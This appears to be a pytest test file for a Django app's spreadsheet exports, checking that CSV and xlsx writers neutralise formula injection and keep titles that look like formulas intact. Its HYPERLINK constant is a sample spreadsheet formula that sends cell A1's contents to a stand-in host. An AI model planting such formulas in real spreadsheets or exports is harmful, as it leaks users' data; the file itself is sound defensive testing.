"""Formula injection (issue 19 §4): every export goes through the one CSV writer and the one xlsx writer, which
neutralise a text a spreadsheet would evaluate (CSV) or keep it a text cell (xlsx), and a workbook read back
keeps the text as written."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pyarrow as pa
import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from chiiki_mirai.organisations.models import Person
from chiiki_mirai.plans.io import load, source_from_text
from chiiki_mirai.plans.workbook import read_workbook, write_workbook
from chiiki_mirai.reports.spreadsheet import Sheet, excel_csv, neutralised, neutralised_table, xlsx
from chiiki_mirai.workflow import services
from chiiki_mirai.workflow.documents import read_plan_text, stored
from chiiki_mirai.workflow.models import Plan
from chiiki_mirai.workflow.states import PlanState
from tests.conftest import GOOD_PLANS
from tests.web.conftest import plan_text, signed_in

RISKY = "=+-@\t\r"
HYPERLINK = '=HYPERLINK("http://x.example/?a="&A1,"c")'
texts = st.text(min_size=0, max_size=40) | st.sampled_from(RISKY).flatmap(
    lambda c: st.text(max_size=20).map(c.__add__)
)


def _evaluable(cell: str) -> bool:
    """Would a spreadsheet take this CSV cell for a formula? Said here on its own (OWASP: a cell starting with one of
    these characters), not by the writer's rule: a plain number such as ``-30`` is only a number."""
    return cell.startswith(tuple(RISKY)) and re.fullmatch(r"[+-]?[0-9][0-9,]*(\.[0-9]+)?", cell) is None


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


@given(st.lists(texts, min_size=1, max_size=6))
def test_no_csv_cell_is_a_formula(values: list[str]) -> None:
    cells = _csv_cells(excel_csv(["h"] * len(values), [values]))[len(values) :]
    for given_value, cell in zip(values, cells, strict=True):
        assert not _evaluable(cell)
        # Only a value that would be evaluated is changed, and only by the leading apostrophe.
        assert cell == ("'" + given_value if _evaluable(given_value) else given_value)


@given(st.lists(texts, min_size=1, max_size=6))
def test_every_xlsx_text_is_a_text_cell_read_back_exactly(values: list[str]) -> None:
    book = load_workbook(io.BytesIO(xlsx([Sheet("s", ["h"] * len(values), [values])])))
    row = next(book.active.iter_rows(min_row=2, max_row=2))  # type: ignore[union-attr]
    for given_value, cell in zip(values, row, strict=True):
        if given_value == "":
            continue
        assert cell.data_type == "s"
        # XML cannot carry C0 controls: they come back as U+FFFD (a plan cannot hold them: refused when read);
        # a bare CR is read back as LF by the XML parser.
        expected = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", given_value)
        assert cell.value.replace("\r", "\n") == expected.replace("\r", "\n")


@given(st.lists(texts, min_size=1, max_size=6))
def test_the_network_csv_columns_follow_the_same_rule(values: list[str]) -> None:
    table = neutralised_table(pa.table({"name": values, "n": list(range(len(values)))}))
    assert table.column("name").to_pylist() == [neutralised(v) for v in values]
    assert table.column("n").to_pylist() == list(range(len(values)))


@given(texts.filter(lambda t: t.strip() == t and t and not re.search(r"[\x00-\x1f]", t)))
def test_a_plan_workbook_keeps_a_title_that_looks_like_a_formula(title: str) -> None:
    data = stored(load(source_from_text("p.yaml", GOOD_PLANS[0].read_text(encoding="utf-8"))))  # type: ignore[arg-type]
    data["title"] = title
    assert read_workbook(write_workbook(data)).title == title


@pytest.fixture
def formula_plan(people: dict[str, Person], advance: Callable[[Plan, PlanState], Plan]) -> Plan:
    text = plan_text(**{"title: 北九州ロボット・自動化システム産業クラスター計画": f"title: '{HYPERLINK}'"})
    plan = services.do_create_plan(people["author"], read_plan_text("p.yaml", text))
    return advance(plan, PlanState.PUBLISHED)


def test_the_exports_of_a_published_plan_carry_no_formula(
    formula_plan: Plan, people: dict[str, Person]
) -> None:
    cells = _csv_cells(Client().get("/open-data/plans.csv").content)
    assert "'" + HYPERLINK in cells
    assert not any(_evaluable(cell) for cell in cells)
    content = signed_in(people["author"]).get(f"/work/plans/{formula_plan.public_id}/download.xlsx").content
    book = load_workbook(io.BytesIO(content))
    found = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
    assert found and all(c.data_type == "s" for c in found)
    assert read_workbook(content).title == HYPERLINK
